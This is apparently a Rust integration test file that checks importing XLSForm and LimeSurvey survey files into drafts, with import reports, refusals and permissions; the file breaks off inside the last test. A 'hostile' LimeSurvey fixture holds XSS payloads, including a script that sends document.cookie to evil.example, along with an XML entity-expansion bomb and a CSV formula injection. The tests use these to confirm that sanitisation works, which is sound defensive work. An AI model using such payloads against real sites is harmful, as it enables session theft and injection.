//! Importing forms from other tools (XLSForm `.xlsx`/`.csv`/`.md`, LimeSurvey `.lss`) as
//! drafts with a report, every refusal, the XLSForm export and its round trip; through the
//! API, the page and the command line. The forms are written here, as agencies write them.
use consulta::accounts::Role;
use reqwest::Method;
use rust_xlsxwriter::Workbook;
use serde_json::Value;

use crate::helpers::{TestApp, TestUser, input_value, spawn_app};

/// A workbook from sheets of rows (first row: the header).
fn xlsx(sheets: &[(&str, Vec<Vec<&str>>)]) -> Vec<u8> {
    let mut book = Workbook::new();
    for (name, rows) in sheets {
        let sheet = book.add_worksheet();
        sheet.set_name(*name).unwrap();
        for (r, row) in rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                if !cell.is_empty() {
                    sheet.write_string(r as u32, c as u16, *cell).unwrap();
                }
            }
        }
    }
    book.save_to_buffer().unwrap()
}

const SURVEY_HEAD: [&str; 12] = [
    "type",
    "name",
    "label::English (en)",
    "label::Français (fr)",
    "label::العربية (ar)",
    "label::Deutsch (de)",
    "hint::English (en)",
    "required",
    "relevant",
    "constraint",
    "appearance",
    "parameters",
];

/// A realistic child-protection questionnaire of an agency, in English, French, Arabic
/// (and German, which Consulta does not have), with every type the mapping covers.
fn agency_form() -> Vec<u8> {
    #[rustfmt::skip]
    let survey: Vec<Vec<&str>> = vec![
        SURVEY_HEAD.to_vec(),
        vec!["start", "start"],                                                                 // 2
        vec!["deviceid", "deviceid"],                                                           // 3
        vec!["phonenumber", "phone"],                                                           // 4
        vec!["note", "welcome", "Thank you for taking part.", "Merci de participer.", "شكرًا لمشاركتك.", "Danke."], // 5
        vec!["begin group", "school", "At school", "À l'école", "في المدرسة"],                     // 6
        vec!["select_one yes_no", "safe_school", "Do you feel safe at school?", "Te sens-tu en sécurité à l'école ?", "هل تشعر بالأمان في المدرسة؟", "", "Think of the last month.", "yes"], // 7
        vec!["select_multiple worries or_other", "worries", "What worries you online?", "Qu'est-ce qui t'inquiète en ligne ?", "ما الذي يقلقك على الإنترنت؟", "", "", "", "", "count-selected(.) <= 2"], // 8
        vec!["integer", "age", "How old are you?", "Quel âge as-tu ?", "كم عمرك؟", "", "", "yes", "", ". >= 9 and . <= 24"], // 9
        vec!["decimal", "hours", "Hours online per day", "Heures en ligne par jour", "ساعات على الإنترنت يوميًا", "", "", "", "", ". > 0 and . < 24"], // 10
        vec!["range", "trust", "How much do you trust adults at school?", "Quelle confiance as-tu dans les adultes ?", "ما مدى ثقتك بالبالغين؟", "", "", "", "", "", "", "start=0 end=10 step=1"], // 11
        vec!["text", "why_unsafe", "Why not?", "Pourquoi ?", "لماذا؟", "", "", "", "${safe_school} = 'no'"], // 12
        vec!["text", "ideas", "What would help?", "Qu'est-ce qui aiderait ?", "ما الذي سيساعد؟", "", "", "", "", "", "multiline"], // 13
        vec!["rank priorities", "priorities", "Rank these", "Classe-les", "رتّبها", "", "", "", "selected(${worries}, 'bullying')"], // 14
        vec!["begin group", "inner", "Inner", "Intérieur", "داخلي"],                              // 15
        vec!["text", "skipped_if", "Anything else?", "Autre chose ?", "شيء آخر؟", "", "", "", "${age} > 12"], // 16
        vec!["geopoint", "where"],                                                              // 17
        vec!["end group"],                                                                      // 18
        vec!["image", "selfie", "Take a photo"],                                                // 19
        vec!["end group"],                                                                      // 20
        vec!["calculate", "score"],                                                             // 21
        vec!["begin repeat", "siblings", "Siblings"],                                           // 22
        vec!["text", "sibling_name", "Name"],                                                   // 23
        vec!["end repeat"],                                                                     // 24
        vec!["date", "today_date", "Today's date"],                                             // 25
        vec!["text", "Contact_OK", "Anything to add? <b>Optional</b>", "", "", "", "", "", "${phone} = ''"], // 26
    ];
    #[rustfmt::skip]
    let choices: Vec<Vec<&str>> = vec![
        vec!["list_name", "name", "label::English (en)", "label::Français (fr)", "label::العربية (ar)"],
        vec!["yes_no", "yes", "Yes", "Oui", "نعم"],
        vec!["yes_no", "no", "No", "Non", "لا"],
        vec!["worries", "bullying", "Bullying", "Harcèlement", "التنمر"],
        vec!["worries", "strangers", "Strangers", "Inconnus", "الغرباء"],
        vec!["worries", "privacy", "Privacy", "Vie privée", "الخصوصية"],
        vec!["priorities", "teachers", "Teachers", "Enseignants", "المعلمون"],
        vec!["priorities", "parents", "Parents", "Parents", "الآباء"],
        vec!["priorities", "friends", "Friends", "Amis", "الأصدقاء"],
    ];
    let settings = vec![
        vec!["form_title", "form_id", "default_language"],
        vec!["Safe at school and online", "safe_2027", "English (en)"],
    ];
    xlsx(&[
        ("survey", survey),
        ("choices", choices),
        ("settings", settings),
    ])
}

async fn facilitator(app: &TestApp) -> (consulta::entities::work_group::Model, TestUser) {
    let group = app.create_group("UNICEF country office").await;
    let user = app
        .create_user(Some((group.id, Role::Facilitator)), false)
        .await;
    (group, user)
}

async fn post_file(
    app: &TestApp,
    group: &str,
    token: &str,
    name: &str,
    content_type: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    reqwest::Client::new()
        .post(app.url(&format!("/api/v1/groups/{group}/imports?filename={name}")))
        .bearer_auth(token)
        .header("Content-Type", content_type)
        .body(bytes)
        .send()
        .await
        .expect("import request")
}

async fn consultation_count(app: &TestApp, group_id: i32) -> u64 {
    use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
    consulta::entities::consultation::Entity::find()
        .filter(consulta::entities::consultation::Column::GroupId.eq(group_id))
        .count(&app.db)
        .await
        .unwrap()
}

async fn definition(app: &TestApp, token: &str, slug: &str) -> Value {
    let res = app
        .api(
            Method::GET,
            &format!("/api/v1/consultations/{slug}/document"),
            token,
            None,
        )
        .await;
    assert_eq!(res.status(), 200);
    let body: Value = res.json().await.unwrap();
    body.get("definition").cloned().unwrap_or(body)
}

/// The report's counts by kind, recomputed from the stored draft.
async fn body_questions(app: &TestApp, token: &str, body: &Value) -> Value {
    let def = definition(app, token, body["slug"].as_str().unwrap()).await;
    let mut counts = serde_json::Map::new();
    for q in questions(&def) {
        let kind = q["kind"].as_str().unwrap().to_owned();
        let n = counts.get(&kind).and_then(Value::as_u64).unwrap_or(0);
        counts.insert(kind, Value::from(n + 1));
    }
    Value::Object(counts)
}

fn questions(def: &Value) -> Vec<Value> {
    def["sections"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["questions"].as_array().unwrap().clone())
        .collect()
}

fn question<'a>(qs: &'a [Value], key: &str) -> &'a Value {
    qs.iter()
        .find(|q| q["key"] == key)
        .unwrap_or_else(|| panic!("no question {key} in {qs:#?}"))
}

fn has_item(report: &Value, at: &str, reason: &str) -> bool {
    report["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["at"] == at && i["reason"] == reason)
}

#[tokio::test]
async fn an_xlsform_workbook_becomes_a_draft_with_every_mapping_and_a_report() {
    let app = spawn_app().await;
    let (group, user) = facilitator(&app).await;
    let form = agency_form();
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "safe_2027.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        form,
    )
    .await;
    let status = res.status();
    let body: Value = res.json().await.unwrap();
    assert_eq!(status, 201, "{body:#}");
    let slug = body["slug"].as_str().unwrap().to_owned();
    let report = &body["report"];
    assert_eq!(report["format"], "xlsform");

    // Languages: by code, German reported.
    let langs = report["languages"].as_array().unwrap();
    for (found, code) in [
        ("English (en)", "en"),
        ("Français (fr)", "fr"),
        ("العربية (ar)", "ar"),
    ] {
        assert!(
            langs
                .iter()
                .any(|l| l["found"] == found && l["code"] == code && l["matched_by"] == "code"),
            "{found}: {langs:#?}"
        );
    }
    assert!(
        langs
            .iter()
            .any(|l| l["found"] == "Deutsch (de)" && l["code"].is_null())
    );

    // Identifying, metadata, calculations, repeats, unsupported types: left out with reasons.
    for (row, reason) in [
        ("2", "metadata"),
        ("3", "identifying"),
        ("4", "identifying"),
        ("15", "nested_group"),
        ("16", "condition_unsupported"),
        ("17", "identifying"),
        ("19", "identifying"),
        ("21", "calculation"),
        ("22", "repeat"),
        ("23", "repeat"),
        ("25", "unsupported_type"),
        ("8", "or_other"),
        ("10", "constraint_strict"),
        ("26", "key_changed"),
        ("26", "markup_removed"),
    ] {
        assert!(
            has_item(report, row, reason),
            "row {row} {reason}: {report:#}"
        );
    }
    assert_eq!(report["conditions"], 2, "{report:#}");

    let def = definition(&app, &user.token, &slug).await;
    assert_eq!(def["default_language"], "en");
    assert_eq!(def["languages"], serde_json::json!(["en", "fr", "ar"]));
    assert_eq!(def["texts"]["title"]["en"], "Safe at school and online");
    let qs = questions(&def);
    let keys: Vec<&str> = qs.iter().map(|q| q["key"].as_str().unwrap()).collect();
    assert!(!keys.iter().any(|k| {
        [
            "phone",
            "deviceid",
            "where",
            "selfie",
            "score",
            "sibling_name",
        ]
        .contains(k)
    }));

    assert_eq!(question(&qs, "welcome")["kind"], "info");
    let safe = question(&qs, "safe_school");
    assert_eq!(safe["kind"], "single_choice");
    assert_eq!(safe["required"], true);
    assert_eq!(safe["text"]["ar"], "هل تشعر بالأمان في المدرسة؟");
    assert_eq!(safe["help"]["en"], "Think of the last month.");
    assert_eq!(safe["options"][1]["code"], "no");
    assert_eq!(safe["options"][1]["label"]["fr"], "Non");
    let worries = question(&qs, "worries");
    assert_eq!(worries["kind"], "multiple_choice");
    assert_eq!(worries["max_choices"], 2);
    assert_eq!(worries["options"].as_array().unwrap().len(), 4);
    assert_eq!(worries["options"][3]["code"], "other");
    assert_eq!(worries["options"][3]["label"]["ar"], "غير ذلك");
    let age = question(&qs, "age");
    assert_eq!(age["kind"], "number");
    assert_eq!(
        (age["min"].as_f64(), age["max"].as_f64()),
        (Some(9.0), Some(24.0))
    );
    let trust = question(&qs, "trust");
    assert_eq!(trust["kind"], "rating");
    assert_eq!(trust["options"].as_array().unwrap().len(), 11);
    assert_eq!(question(&qs, "ideas")["kind"], "long_text");
    let why = question(&qs, "why_unsafe");
    assert_eq!(why["kind"], "short_text");
    assert_eq!(why["condition"]["question"], "safe_school");
    assert_eq!(why["condition"]["operator"], "equals");
    assert_eq!(why["condition"]["value"], "no");
    let prio = question(&qs, "priorities");
    assert_eq!(prio["kind"], "ranking");
    assert_eq!(prio["condition"]["operator"], "includes");
    assert!(question(&qs, "skipped_if").get("condition").is_none());
    let contact = question(&qs, "contact_ok");
    assert_eq!(contact["text"]["en"], "Anything to add? Optional");
    assert!(contact.get("condition").is_none(), "phone was left out");
    // Sections: the group, then the inner group flattened, then the rest.
    let sections = def["sections"].as_array().unwrap();
    assert_eq!(sections[0]["questions"][0]["key"], "welcome");
    assert_eq!(sections[1]["title"]["fr"], "À l'école");
    assert_eq!(sections[2]["title"]["en"], "Inner");
    assert!(sections.len() >= 3, "{sections:#?}");
    assert_eq!(report["sections"], sections.len());
}

fn rank_list_form() -> String {
    // pyxform's CSV layout: a sheet name alone on its row, then its header and rows.
    "survey,,,,,\n\
     ,type,name,label::English (en),label::Español (es),required\n\
     ,select_one feel,feel,How do you feel about your neighbourhood?,¿Cómo te sientes en tu barrio?,yes\n\
     ,rank fixes,fixes,What should change first?,¿Qué debería cambiar primero?,\n\
     ,text,comment,Tell us more,Cuéntanos más,\n\
     ,email,email,Your e-mail,Tu correo,\n\
     choices,,,,,\n\
     ,list_name,name,label::English (en),label::Español (es),\n\
     ,feel,good,Good,Bien,\n\
     ,feel,bad,Bad,Mal,\n\
     ,fixes,parks,Parks,Parques,\n\
     ,fixes,lights,Street lights,Alumbrado,\n\
     settings,,,,,\n\
     ,form_title,default_language,,,\n\
     ,Our neighbourhood,Español (es),,,\n"
        .to_owned()
}

#[tokio::test]
async fn the_csv_and_markdown_layouts_import_like_a_workbook() {
    let app = spawn_app().await;
    let (group, user) = facilitator(&app).await;
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "barrio.csv",
        "text/csv",
        rank_list_form().into_bytes(),
    )
    .await;
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["report"]["questions"]["ranking"], 1, "{body:#}");
    // In the text layouts, rows are the file's line numbers.
    assert!(has_item(&body["report"], "6", "identifying"), "{body:#}");
    let def = definition(&app, &user.token, body["slug"].as_str().unwrap()).await;
    assert_eq!(def["default_language"], "es");
    assert_eq!(def["texts"]["title"]["es"], "Our neighbourhood");
    let qs = questions(&def);
    assert_eq!(
        question(&qs, "fixes")["options"][1]["label"]["es"],
        "Alumbrado"
    );

    // The same file as the `file` part of a multipart body.
    let (ct, body) = multipart("", "barrio.csv", rank_list_form().as_bytes());
    let res = reqwest::Client::new()
        .post(app.url(&format!("/api/v1/groups/{}/imports", group.slug)))
        .bearer_auth(&user.token)
        .header("Content-Type", ct)
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
    let again: Value = res.json().await.unwrap();
    assert_eq!(
        again["report"]["questions"],
        body_questions(&app, &user.token, &again).await
    );

    let md = "\
| survey |                  |        |                            |                         |
|        | type             | name   | label::English (en)        | label::中文              |
|        | select_one agree | heard  | I feel heard by adults     | 我觉得大人会倾听我       |
|        | integer          | votes  | How many times did you vote? | 你投过几次票？         |
| choices |                 |        |                            |                         |
|        | list_name        | name   | label::English (en)        | label::中文              |
|        | agree            | yes    | Yes                        | 是                      |
|        | agree            | no     | No                         | 否                      |
";
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "voices.md",
        "text/markdown",
        md.as_bytes().to_vec(),
    )
    .await;
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["report"]["questions"]["single_choice"], 1, "{body:#}");
    let zh = body["report"]["languages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["found"] == "中文")
        .cloned()
        .unwrap();
    assert_eq!(zh["code"], "zh");
    assert_eq!(zh["matched_by"], "name");
}

/// A LimeSurvey 3 export (texts on each row per language) an NGO might hold, laced with
/// scripts and event handlers.
fn hostile_lss() -> String {
    r#"<?xml version="1.0" encoding="UTF-8"?>
<document>
 <LimeSurveyDocType>Survey</LimeSurveyDocType>
 <DBVersion>366</DBVersion>
 <languages><language>en</language><language>fr</language><language>de</language></languages>
 <answers>
  <fields><fieldname>qid</fieldname><fieldname>code</fieldname><fieldname>answer</fieldname><fieldname>sortorder</fieldname><fieldname>language</fieldname><fieldname>scale_id</fieldname></fields>
  <rows>
   <row><qid>11</qid><code>A1</code><answer><![CDATA[<img src=x onerror="alert(1)">Every day]]></answer><sortorder>1</sortorder><language>en</language><scale_id>0</scale_id></row>
   <row><qid>11</qid><code>A2</code><answer>Sometimes</answer><sortorder>2</sortorder><language>en</language><scale_id>0</scale_id></row>
   <row><qid>11</qid><code>A1</code><answer>Tous les jours</answer><sortorder>1</sortorder><language>fr</language><scale_id>0</scale_id></row>
   <row><qid>11</qid><code>A2</code><answer>Parfois</answer><sortorder>2</sortorder><language>fr</language><scale_id>0</scale_id></row>
   <row><qid>16</qid><code>R1</code><answer>Police</answer><sortorder>1</sortorder><language>en</language><scale_id>0</scale_id></row>
   <row><qid>16</qid><code>R2</code><answer>Teachers</answer><sortorder>2</sortorder><language>en</language><scale_id>0</scale_id></row>
  </rows>
 </answers>
 <assessments><rows><row><id>1</id><name>Risk score</name></row></rows></assessments>
 <groups>
  <rows>
   <row><gid>1</gid><group_name><![CDATA[<h1 onclick="steal()">Online life</h1>]]></group_name><group_order>0</group_order><language>en</language></row>
   <row><gid>1</gid><group_name>Vie en ligne</group_name><group_order>0</group_order><language>fr</language></row>
  </rows>
 </groups>
 <questions>
  <rows>
   <row><qid>11</qid><parent_qid>0</parent_qid><gid>1</gid><type>L</type><title>Q1</title><question><![CDATA[How often are you online?<script>document.location='https://evil.example/?c='+document.cookie</script>]]></question><help/><other>N</other><mandatory>Y</mandatory><question_order>1</question_order><language>en</language><relevance>1</relevance></row>
   <row><qid>11</qid><parent_qid>0</parent_qid><gid>1</gid><type>L</type><title>Q1</title><question>Combien de temps es-tu en ligne ?</question><other>N</other><mandatory>Y</mandatory><question_order>1</question_order><language>fr</language><relevance>1</relevance></row>
   <row><qid>12</qid><parent_qid>0</parent_qid><gid>1</gid><type>M</type><title>Q2</title><question><![CDATA[<p style="color:red">Which apps?</p>]]></question><other>Y</other><mandatory>N</mandatory><question_order>2</question_order><language>en</language><relevance>1</relevance></row>
   <row><qid>13</qid><parent_qid>0</parent_qid><gid>1</gid><type>A</type><title>Q3</title><question>How much do you agree?</question><mandatory>N</mandatory><question_order>3</question_order><language>en</language><relevance>Q2_SQ001 == "Y"</relevance></row>
   <row><qid>14</qid><parent_qid>0</parent_qid><gid>1</gid><type>N</type><title>Q4</title><question>Age</question><mandatory>N</mandatory><question_order>4</question_order><language>en</language><relevance>Q1 == "A1" and Q2_SQ002 == "Y"</relevance></row>
   <row><qid>15</qid><parent_qid>0</parent_qid><gid>1</gid><type>X</type><title>Q5</title><question><![CDATA[<b>Thank you!</b><iframe src="https://evil.example"></iframe>]]></question><question_order>5</question_order><language>en</language></row>
   <row><qid>16</qid><parent_qid>0</parent_qid><gid>1</gid><type>R</type><title>Q6</title><question>Who do you trust?</question><question_order>6</question_order><language>en</language></row>
   <row><qid>17</qid><parent_qid>0</parent_qid><gid>1</gid><type>|</type><title>Q7</title><question>Upload your ID</question><question_order>7</question_order><language>en</language></row>
   <row><qid>18</qid><parent_qid>0</parent_qid><gid>1</gid><type>G</type><title>Q8</title><question>Gender</question><question_order>8</question_order><language>en</language></row>
   <row><qid>19</qid><parent_qid>0</parent_qid><gid>1</gid><type>T</type><title>Q9</title><question>Anything else?</question><question_order>9</question_order><language>en</language><relevance>((Q1.NAOK == "A1"))</relevance></row>
   <row><qid>20</qid><parent_qid>0</parent_qid><gid>1</gid><type>Y</type><title>Q10</title><question>Do you use a phone?</question><question_order>10</question_order><language>en</language><relevance>is_empty(Q6)</relevance></row>
  </rows>
 </questions>
 <subquestions>
  <rows>
   <row><qid>31</qid><parent_qid>12</parent_qid><gid>1</gid><type>T</type><title>SQ001</title><question>Chat apps</question><question_order>1</question_order><language>en</language><scale_id>0</scale_id></row>
   <row><qid>32</qid><parent_qid>12</parent_qid><gid>1</gid><type>T</type><title>SQ002</title><question><![CDATA[Games<script>x()</script>]]></question><question_order>2</question_order><language>en</language><scale_id>0</scale_id></row>
   <row><qid>33</qid><parent_qid>13</parent_qid><gid>1</gid><type>T</type><title>S1</title><question>I feel safe online</question><question_order>1</question_order><language>en</language><scale_id>0</scale_id></row>
   <row><qid>34</qid><parent_qid>13</parent_qid><gid>1</gid><type>T</type><title>S2</title><question>Adults listen to me</question><question_order>2</question_order><language>en</language><scale_id>0</scale_id></row>
  </rows>
 </subquestions>
 <question_attributes><rows>
  <row><qid>14</qid><attribute>min_num_value_n</attribute><value>9</value></row>
  <row><qid>14</qid><attribute>max_num_value_n</attribute><value>24</value></row>
  <row><qid>12</qid><attribute>cssclass</attribute><value>hidden-red</value></row>
 </rows></question_attributes>
 <quota><rows><row><id>1</id><name>Girls 100</name></row></rows></quota>
 <surveys><rows><row><sid>123456</sid><language>en</language><additional_languages>fr de</additional_languages></row></rows></surveys>
 <surveys_languagesettings><rows>
  <row><surveyls_survey_id>123456</surveyls_survey_id><surveyls_language>en</surveyls_language><surveyls_title><![CDATA[Youth online <script>alert('t')</script>survey]]></surveyls_title><surveyls_welcometext><![CDATA[<p>Welcome</p>]]></surveyls_welcometext></row>
  <row><surveyls_survey_id>123456</surveyls_survey_id><surveyls_language>fr</surveyls_language><surveyls_title>Enquête en ligne</surveyls_title></row>
 </rows></surveys_languagesettings>
 <plugin_settings><rows/></plugin_settings>
</document>"#
        .to_owned()
}

#[tokio::test]
async fn a_hostile_limesurvey_export_is_imported_as_plain_text_with_its_report() {
    let app = spawn_app().await;
    let (group, user) = facilitator(&app).await;
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "youth.lss",
        "application/xml",
        hostile_lss().into_bytes(),
    )
    .await;
    let status = res.status();
    let body: Value = res.json().await.unwrap();
    assert_eq!(status, 201, "{body:#}");
    let report = &body["report"];
    assert_eq!(report["format"], "limesurvey");
    for (at, reason) in [
        ("11", "script"),
        ("11", "markup_removed"),
        ("12", "custom_style"),
        ("12", "or_other"),
        ("13", "subquestion"),
        ("14", "condition_unsupported"),
        ("17", "identifying"),
        ("18", "asked_by_consulta"),
        ("1", "quota"),
        ("1", "assessment"),
        ("de", "language_unmatched"),
    ] {
        assert!(has_item(report, at, reason), "{at} {reason}: {report:#}");
    }
    assert!(
        report["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["reason"] == "unknown_element" && i["detail"] == "plugin_settings")
    );
    assert_eq!(report["conditions"], 4, "{report:#}");
    let def = definition(&app, &user.token, body["slug"].as_str().unwrap()).await;
    let text = def.to_string();
    for bad in [
        "<script",
        "onerror",
        "<img",
        "<iframe",
        "evil.example",
        "alert(",
        "document.cookie",
        "onclick",
        "<p",
        "<b>",
    ] {
        assert!(!text.contains(bad), "{bad} in {text}");
    }
    assert_eq!(def["texts"]["title"]["en"], "Youth online survey");
    let qs = questions(&def);
    let q1 = question(&qs, "q1");
    assert_eq!(q1["kind"], "single_choice");
    assert_eq!(q1["text"]["en"], "How often are you online?");
    assert_eq!(q1["options"][0]["label"]["en"], "Every day");
    assert_eq!(q1["options"][0]["label"]["fr"], "Tous les jours");
    assert_eq!(q1["required"], true);
    let q2 = question(&qs, "q2");
    assert_eq!(q2["kind"], "multiple_choice");
    assert_eq!(q2["options"][1]["label"]["en"], "Games");
    assert!(q2.get("condition").is_none());
    let q3 = question(&qs, "q3_s1");
    assert_eq!(q3["kind"], "scale");
    assert_eq!(q3["text"]["en"], "I feel safe online");
    assert_eq!(q3["condition"]["operator"], "includes");
    assert_eq!(q3["condition"]["value"], "SQ001");
    let q4 = question(&qs, "q4");
    assert_eq!(
        (q4["min"].as_f64(), q4["max"].as_f64()),
        (Some(9.0), Some(24.0))
    );
    assert_eq!(question(&qs, "q5")["kind"], "info");
    assert_eq!(question(&qs, "q5")["text"]["en"], "Thank you!");
    assert_eq!(question(&qs, "q6")["kind"], "ranking");
    assert_eq!(question(&qs, "q9")["kind"], "long_text");
    assert_eq!(question(&qs, "q9")["condition"]["value"], "A1");
    assert_eq!(
        question(&qs, "q10")["condition"]["operator"],
        "not_answered"
    );
    assert_eq!(question(&qs, "q10")["options"][0]["label"]["fr"], "Oui");

    // The editor shows the report, escaped, until dismissed.
    let c = app.logged_in(&user).await;
    let slug = body["slug"].as_str().unwrap();
    let html = app.text_with(&c, &format!("/manage/c/{slug}")).await;
    assert!(html.contains("import-report"), "{html}");
    assert!(html.contains("Imported from LimeSurvey"), "{html}");
    assert!(!html.contains("<script>document") && !html.contains("onerror="));
}

/// LimeSurvey 5/6 exports keep texts apart (`question_l10ns`, `answer_l10ns`, `group_l10ns`).
#[tokio::test]
async fn a_limesurvey_6_export_with_separate_texts_imports() {
    let app = spawn_app().await;
    let (group, user) = facilitator(&app).await;
    let lss = r#"<?xml version="1.0" encoding="UTF-8"?>
<document>
 <LimeSurveyDocType>Survey</LimeSurveyDocType>
 <DBVersion>641</DBVersion>
 <languages><language>ar</language><language>en</language></languages>
 <answers><rows>
  <row><aid>1</aid><qid>5</qid><code>Y1</code><sortorder>1</sortorder><scale_id>0</scale_id></row>
  <row><aid>2</aid><qid>5</qid><code>N1</code><sortorder>2</sortorder><scale_id>0</scale_id></row>
 </rows></answers>
 <answer_l10ns><rows>
  <row><id>1</id><aid>1</aid><answer>نعم</answer><language>ar</language></row>
  <row><id>2</id><aid>1</aid><answer>Yes</answer><language>en</language></row>
  <row><id>3</id><aid>2</aid><answer>لا</answer><language>ar</language></row>
  <row><id>4</id><aid>2</aid><answer>No</answer><language>en</language></row>
 </rows></answer_l10ns>
 <groups><rows><row><gid>2</gid><sid>9</sid><group_order>1</group_order><grelevance>1</grelevance></row></rows></groups>
 <group_l10ns><rows>
  <row><id>1</id><gid>2</gid><group_name>المدرسة</group_name><language>ar</language></row>
  <row><id>2</id><gid>2</gid><group_name>School</group_name><language>en</language></row>
 </rows></group_l10ns>
 <questions><rows>
  <row><qid>5</qid><parent_qid>0</parent_qid><sid>9</sid><gid>2</gid><type>!</type><title>club</title><other>N</other><mandatory>N</mandatory><question_order>1</question_order><scale_id>0</scale_id><relevance>1</relevance></row>
  <row><qid>6</qid><parent_qid>0</parent_qid><sid>9</sid><gid>2</gid><type>S</type><title>club_name</title><other>N</other><mandatory>N</mandatory><question_order>2</question_order><scale_id>0</scale_id><relevance>club == "Y1"</relevance></row>
 </rows></questions>
 <question_l10ns><rows>
  <row><id>1</id><qid>5</qid><question>هل أنت عضو في نادٍ؟</question><help/><language>ar</language></row>
  <row><id>2</id><qid>5</qid><question>Are you in a club?</question><help/><language>en</language></row>
  <row><id>3</id><qid>6</qid><question>ما اسمه؟</question><language>ar</language></row>
  <row><id>4</id><qid>6</qid><question>What is it called?</question><language>en</language></row>
 </rows></question_l10ns>
 <surveys><rows><row><sid>9</sid><language>ar</language><additional_languages>en</additional_languages></row></rows></surveys>
 <surveys_languagesettings><rows>
  <row><surveyls_survey_id>9</surveyls_survey_id><surveyls_language>ar</surveyls_language><surveyls_title>صوت الشباب</surveyls_title></row>
  <row><surveyls_survey_id>9</surveyls_survey_id><surveyls_language>en</surveyls_language><surveyls_title>Youth voice</surveyls_title></row>
 </rows></surveys_languagesettings>
</document>"#;
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "voice.lss",
        "",
        lss.as_bytes().to_vec(),
    )
    .await;
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["report"]["conditions"], 1, "{body:#}");
    let def = definition(&app, &user.token, body["slug"].as_str().unwrap()).await;
    assert_eq!(def["default_language"], "ar");
    assert_eq!(def["sections"][0]["title"]["ar"], "المدرسة");
    let qs = questions(&def);
    assert_eq!(question(&qs, "club")["options"][0]["label"]["ar"], "نعم");
    assert_eq!(question(&qs, "club_name")["condition"]["value"], "Y1");
}

#[tokio::test]
async fn bad_files_are_refused_with_a_clear_message_and_nothing_is_created() {
    let app = spawn_app().await;
    let (group, user) = facilitator(&app).await;
    let survey_ok = vec![vec!["type", "name", "label"], vec!["text", "a", "A"]];
    let mut huge_range = Workbook::new();
    {
        let sheet = huge_range.add_worksheet();
        sheet.set_name("survey").unwrap();
        sheet.write_string(0, 0, "type").unwrap();
        sheet.write_string(0, 15_000, "label").unwrap();
    }
    let huge_range = huge_range.save_to_buffer().unwrap();
    let mut corrupt = agency_form();
    corrupt.truncate(corrupt.len() / 2);
    let bomb = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><document><LimeSurveyDocType>Survey</LimeSurveyDocType><x>&lol2;</x></document>"#;
    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("empty.xlsx", "", Vec::new(), "empty"),
        ("notes.txt", "text/plain", b"just some notes".to_vec(), "neither an XLSForm"),
        ("broken.xlsx", "", corrupt, "damaged"),
        ("garbage.xlsx", "", b"PK\x03\x04not really a zip".to_vec(), "damaged"),
        ("nosurvey.xlsx", "", xlsx(&[("questions", survey_ok.clone())]), "no \u{201c}survey\u{201d} sheet"),
        ("wide.xlsx", "", huge_range, "more than 200 columns"),
        (
            "dupes.xlsx",
            "",
            xlsx(&[("survey", vec![vec!["type", "name", "label"], vec!["text", "a", "A"], vec!["text", "a", "B"]])]),
            "same name: a (survey, rows 2 and 3)",
        ),
        (
            "nolist.xlsx",
            "",
            xlsx(&[("survey", vec![vec!["type", "name", "label"], vec!["select_one colours", "c", "Colour?"]])]),
            "colours (survey, row 2)",
        ),
        (
            "formula.csv",
            "text/csv",
            b"survey,,,\n,type,name,label\n,text,a,=HYPERLINK(\"http://x\")\n".to_vec(),
            "starts with \u{201c}=\u{201d}",
        ),
        ("broken.lss", "", b"<?xml version=\"1.0\"?><document><LimeSurveyDocType>Survey</Lime".to_vec(), "not valid XML"),
        (
            "question.lss",
            "",
            b"<?xml version=\"1.0\"?><document><LimeSurveyDocType>Question</LimeSurveyDocType></document>".to_vec(),
            "not a LimeSurvey survey export (found \u{201c}Question\u{201d})",
        ),
        ("bomb.lss", "", bomb.as_bytes().to_vec(), "not valid XML"),
        (
            "german.csv",
            "text/csv",
            "survey,,,\n,type,name,label::Deutsch (de)\n,text,a,Wie geht's?\n".as_bytes().to_vec(),
            "None of the form",
        ),
    ];
    for (name, ct, bytes, expected) in cases {
        let started = std::time::Instant::now();
        let res = post_file(&app, &group.slug, &user.token, name, ct, bytes).await;
        assert_eq!(res.status(), 422, "{name}");
        assert!(
            res.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("application/problem+json"),
            "{name}"
        );
        let problem = res.text().await.unwrap();
        assert!(problem.contains(expected), "{name}: {problem}");
        assert!(
            started.elapsed().as_secs() < 10,
            "{name} took {:?}",
            started.elapsed()
        );
    }
    // 250 questions: more than a consultation holds.
    let mut many = String::from("survey,,,\n,type,name,label\n");
    for i in 0..250 {
        many.push_str(&format!(",text,q{i},Question {i}\n"));
    }
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "many.csv",
        "text/csv",
        many.into_bytes(),
    )
    .await;
    assert_eq!(res.status(), 422);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("too many questions for one consultation (250 > 200)")
    );
    // 20 MB: refused before anything is read into a form.
    let res = post_file(
        &app,
        &group.slug,
        &user.token,
        "big.xlsx",
        "",
        vec![b'a'; 20 * 1024 * 1024],
    )
    .await;
    assert_eq!(res.status(), 413);
    assert_eq!(consultation_count(&app, group.id).await, 0);
    // Someone else's group: 403, and a member who does not facilitate: 403.
    let member = app.create_user(Some((group.id, Role::Member)), false).await;
    let res = post_file(
        &app,
        &group.slug,
        &member.token,
        "barrio.csv",
        "text/csv",
        rank_list_form().into_bytes(),
    )
    .await;
    assert_eq!(res.status(), 403);
